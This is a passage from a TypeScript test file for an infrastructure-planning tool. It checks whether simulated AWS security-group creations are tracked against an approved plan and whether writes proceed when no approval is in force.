            { field: 'Tags', after: {} },
          ],
        })),
      ],
      scripts: [],
    });
    expect(notCarriedOut(plan).map((c) => c.resource)).toHaveLength(2);
    await underApproval(plan, () =>
      write(
        ctx.clients.ec2,
        new CreateSecurityGroupCommand({ GroupName: 'perf-lb-sg', Description: 'x', VpcId: VPC }),
        sg('perf-lb-sg'),
      ),
    );
    expect(notCarriedOut(plan).map((c) => c.resource)).toEqual(['security group perf-perf-sg']);
  });

  test('without an approval nothing is held (a cluster-up without a saved plan)', async () => {
    const { ctx } = simulated();
    await expect(
      write(
        ctx.clients.ec2,
        new CreateSecurityGroupCommand({ GroupName: 'any', Description: 'x', VpcId: VPC }),
        sg('any'),
      ),
    ).resolves.toBeDefined();
  });
});
